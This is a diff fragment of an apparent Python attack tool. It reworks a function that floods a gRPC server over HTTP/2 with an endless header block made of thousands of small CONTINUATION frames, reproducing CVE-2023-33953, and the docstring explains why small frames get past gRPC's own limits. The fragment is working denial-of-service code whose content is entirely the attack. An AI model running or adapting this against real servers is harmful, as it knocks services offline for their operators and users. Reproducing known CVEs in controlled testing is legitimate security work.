@@ -64,11 +64,10 @@ def in_batches(pieces, size=BATCH):
 
 
 def continuation_flood(address, end):
-    """A header block that never ends, of many small fields (CVE-2023-33953)."""
-    field = h2.literal(b"x", b"v" * 20)
-    fields = field * (h2.MAX_FRAME_BYTES // len(field))
+    """A header block that never ends, a small field in each frame (CVE-2023-33953). Large frames gRPC refuses by itself."""
     first = h2.frame(h2.HEADERS, 0, 1, h2.call_headers(LIST))
-    return flood(address, end, itertools.chain([(1, first)], repeat(4, h2.frame(h2.CONTINUATION, 0, 1, fields))))
+    piece = h2.frame(h2.CONTINUATION, 0, 1, h2.literal(b"x", b"v" * 20))
+    return flood(address, end, itertools.chain([(1, first)], repeat(4000, piece)))
 
 
 def empty_continuations(address, end):
